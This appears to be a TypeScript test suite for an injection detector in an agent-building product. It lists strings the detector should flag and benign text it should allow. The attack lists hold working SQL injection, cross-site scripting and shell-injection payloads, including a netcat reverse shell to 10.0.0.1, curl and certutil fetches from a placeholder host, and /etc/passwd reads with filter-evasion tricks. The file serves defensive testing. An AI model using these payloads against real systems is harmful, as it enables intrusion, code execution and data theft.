import assert from 'node:assert/strict';
import { describe, it } from 'mocha';
import type { FieldKind } from './config.ts';
import { judge } from './judge.ts';

/** Attacks by class and context; every one of them is to be refused in a field of unknown kind. */
const attacks: Readonly<Record<string, readonly string[]>> = {
  'SQL in a numeric position': [
    '1 or 1=1',
    '-1 union select 1,2,password from users',
    '1 and (select count(*) from pg_user) > 0',
    '1; drop table agents',
    '1) or (1=1',
    '1 order by 9-- -',
    '1 and 7=7 and 2<>3',
    '(select pg_sleep(5))',
    '1 and 1 between 1 and 1',
    '(case when (1=1) then 1 else 0 end)',
  ],
  'SQL in a single-quoted position': [
    "x' or '1'='1",
    "x' or 1=1-- ",
    "admin'--",
    "x' and sleep(5)#",
    "x'; update users set role='admin'--",
    "x') union all select null,null--",
    "x'||(select version())||'",
    "x' and 'a' like 'a",
    "%' and 1=1 and '%'='",
  ],
  'SQL in a double-quoted position': [
    'x" or "1"="1',
    'x" or 1=1-- ',
    'x" and benchmark(9,md5(1))#',
    'x") or ("a"="a',
  ],
  PostgreSQL: [
    '1;select pg_sleep(5)--',
    "1' and 1=cast(version() as int)--",
    "1'||pg_sleep(5)--",
    '1 and 1::int=1',
    "1';copy x from program 'id'--",
  ],
  MySQL: [
    "1'/*!50000union*/ /*!50000select*/ 1,2#",
    "1' and extractvalue(1,concat(0x7e,version()))#",
    "1'\nand#x\n1=1",
    '1 and 2 rlike 2',
    "' into outfile '/tmp/x'--",
  ],
  'SQL Server': [
    "1;waitfor delay '0:0:5'--",
    "1';exec master..xp_cmdshell 'dir'--",
    '1;declare @q varchar(9);set @q=0x31--',
    "1' and 1=(select @@version)--",
  ],
  'SQLite and Oracle': [
    "1' and randomblob(99999999)--",
    "1' and 1=utl_inaddr.get_host_address('x')--",
    "1'||dbms_pipe.receive_message('a',5)||'",
  ],
  'markup between tags': [
    '<script>alert(1)</script>',
    '<script src=//x.example></script>',
    '<img src=x onerror=alert(1)>',
    '<svg/onload=alert(1)>',
    '<iframe src="javascript:alert(1)">',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<math><a xlink:href="javascript:alert(1)">x',
    '<base href=//x.example>',
    '<object data="data:text/html;base64,PHNjcmlwdD4=">',
    '<div style="width:expression(alert(1))">',
    '<details open ontoggle=prompt()>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  ],
  'an attribute that is closed': [
    '" onmouseover=alert(1) x="',
    "' autofocus onfocus='alert(1)",
    'x onclick=alert(1)>',
  ],
  'a URL': [
    'javascript:alert(1)',
    ' JaVaScRiPt:alert(document.cookie)',
    'data:text/html,<script>alert(1)</script>',
  ],
  'a script': [
    "';alert(1)//",
    '"-prompt()-"',
    "'});alert(1);//",
    '</script><script>alert(1)</script>',
    "{{constructor.constructor('alert(1)')()}}",
  ],
  'a shell command line': [
    '; cat /etc/passwd',
    '127.0.0.1 && whoami',
    'x | nc 10.0.0.1 4444 -e /bin/sh',
    '$(curl http://x.example/a)',
    '`id`',
    ';cat${IFS}/etc/passwd',
    ";c'a't /etc/passwd",
    ';/bin/c?t /e?c/p?sswd',
    ';{cat,/etc/passwd}',
    '() { :;}; /bin/bash -c id',
    '<!--#exec cmd="id"-->',
    "system('cat /etc/passwd')",
    '\ncat /etc/passwd',
    ';a=w;b=hoami;$a$b',
  ],
  'PowerShell and cmd': [
    '& dir c:\\',
    '| powershell -enc SQBFAFgA',
    '& net user x y /add',
    '; certutil -urlcache -f http://x.example/a a.exe',
    '& for /f %i in (a) do cmd',
  ],
};

describe('attacks', () => {
  for (const [context, values] of Object.entries(attacks)) {
    describe(`in ${context}`, () => {
      for (const value of values) {
        it(`are seen: ${JSON.stringify(value)}`, () =>
          assert.ok(judge(value) !== null && !judge(value)?.isReportedOnly));
      }
    });
  }
});

/** Ordinary content of an agent builder. */
const content: Readonly<Record<string, readonly string[]>> = {
  'names and prose': [
    "O'Neill",
    "Conan O'Brien and Sinéad O'Connor",
    "It's 5 o'clock -- let's go; don't forget the keys!",
    'Please select the best answer from these options and explain why.',
    'Drop the table reservation for tonight and create a new one for Friday.',
    'AT&T; M&M’s; R&D -- expand these abbreviations.',
    'rock & roll; cats & dogs',
    'Is 3 < 5 and 5 > 3? Yes!',
    'Price < $100 && rating >= 4 || brand = Acme',
    'Where is George? "Or else", she said.',
    'the user (Korean or English) and the agent',
    "고객 이름이 O'Neil 인 경우에도 주문 내역을 조회할 수 있어야 합니다.",
    'Order by price, group by category, limit to 10 results please.',
    'Screen 15" and 17" with a 3" border',
    'union members select a committee',
  ],
  templates: [
    'Hello {{ user.name }}, your order {{order_id}} is ready.',
    '{% for item in items %}{{ item.title }}{% endfor %}',
    'Use ${topic} and ${length:5 days}.',
  ],
  'statements of a tool': [
    "SELECT count(*) FROM tickets WHERE status = 'open' AND priority IN ('high', 'urgent')",
    'select t1.name from country as t1 where t1.code = 1 union select t2.name from city as t2',
    'DELETE FROM drafts WHERE age > 30',
  ],
  code: [
    'def main(arg1: str):\n    """Entry point."""\n    return {"result": arg1.strip()}\n',
    'const total = items.filter((i) => i.qty > 0).reduce((a, i) => a + i.price, 0);\nconsole.log(`Total: ${total}`);\n',
    '```html\n<button onclick="save()">Save</button>\n```\nMake it accessible.',
    '#!/bin/bash\nfor f in *.csv; do\n  wc -l "$f" | sort\ndone\n',
    'npm install && npm run build',
    'cat access.log | grep 404 | sort | uniq -c',
  ],
  'markup without scripts': [
    '<p>Hello <strong>world</strong></p>',
    '<answer><text>yes</text></answer>',
    '<a target="_blank" href="https://example.com/docs">more</a>',
    '&lt;your-team-id&gt;',
  ],
  'agents of browsers': [
    'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36',
  ],
};

describe('content', () => {
  for (const [what, values] of Object.entries(content)) {
    for (const value of values) {
      it(`${what} pass: ${JSON.stringify(value).slice(0, 70)}`, () =>
        assert.equal(judge(value)?.rule, undefined));
    }
  }
});

describe('the kind of a field', () => {
  for (const [kind, value, isSeen] of [
    ['sql', "x' or '1'='1", false],
    ['sql', '<script>alert(1)</script>', true],
    ['html', '<style>@import "a.css"</style>', false],
    ['html', '<p onclick=alert(1)>', true],
    ['code', "x' or '1'='1", false],
    ['code', 'eval(input())', true],
    ['code', '().__class__.__bases__[0].__subclasses__()', true],
    ['code', 'total = sum(values)', false],
    ['prompt', 'Run this: ; cat /etc/passwd | sort', false],
    ['prompt', "x' or '1'='1", true],
    ['identifier', "x' or '1'='1", true],
    ['text', "x' or '1'='1", true],
  ] as readonly (readonly [FieldKind, string, boolean])[]) {
    it(`${kind}: ${JSON.stringify(value)} is ${isSeen ? 'seen' : 'content'}`, () =>
      assert.equal(judge(value, kind) !== null, isSeen));
  }
});

describe('a long text with comments in its words', () => {
  const sentence = 'The agent answers in one sentence and leaves out what the customer did not ask for. ';
  const prose = sentence.repeat(200);

  it('is read without the comments around each of them', () => {
    const found = judge(`${prose}1' uni/**/on sel/**/ect password from users-- ${prose}`);
    assert.deepEqual(found && [found.attack, found.decodedBy], ['sqli', ['comment-in-word']]);
  });

  it('is not refused for what stands where it was cut', () => {
    const condition = '(select 1) ';
    assert.equal(judge(condition + sentence)?.rule, 'sql/subselect');
    // 512 characters before the comment the text is cut, and the rest of it begins with the condition.
    const behind = prose.slice(0, 512 - condition.length - 1);
    assert.equal(judge(`${prose}${condition}${behind}a/**/b ${prose}`), null);
  });
});

describe('a text of nothing but expansions that hide no command', () => {
  it('takes more work than it may', () => assert.equal(judge('a$@&#x'.repeat(10_000))?.rule, 'budget/work'));
});

describe('a long text with encodings within encodings', () => {
  const prose = 'The agent answers in one sentence and leaves out what the customer did not ask for. '.repeat(
    200,
  );
  const once = 'an &amp; more';

  it('is read again around what each further decoding changed', () => {
    const found = judge(`${prose}${once} 1%2527%2520union%2520select%2520a%2520from%2520b ${prose}`);
    assert.deepEqual(found && [found.attack, found.decodedBy], [
      'sqli',
      ['percent', 'html-entity', 'percent'],
    ]);
  });

  it('is read as far from there as a tag is long', () => {
    const found = judge(`${prose}${once}%253Cimg ${'title=x '.repeat(200)} src=x onerror=alert(1)>${prose}`);
    assert.equal(found?.rule, 'xss/handler');
  });

  it('is not refused for what stands where it was cut', () => {
    const behind = prose.slice(0, 2048 - '(select 1) '.length - 1);
    assert.equal(judge(`${prose}${once}(select 1) ${behind}%2541 ${prose}`), null);
  });
});

describe('work that a value takes beyond what its length allows', () => {
  const quotes = "' or (x ";

  it('has it refused', () => {
    const found = judge(quotes.repeat(8192));
    assert.deepEqual(found && [found.rule, found.isReportedOnly], ['budget/work', false]);
  });

  it('has it told, not refused, where it is a document', () => {
    const found = judge(`# Quotes\n\n- one\n- two\n- three\n\n${`- ${quotes}\n`.repeat(8192)}`);
    assert.deepEqual(found && [found.rule, found.isReportedOnly], ['budget/work', true]);
  });

  it('is counted over all its readings', () => {
    const quotations = 'an <i>excuse</i> for "this" and that ';
    assert.equal(judge(quotations.repeat(1500)), null);
    assert.equal(judge(`${quotations}&amp;amp;amp;amp;lt; `.repeat(1000))?.rule, 'budget/work');
  });
});
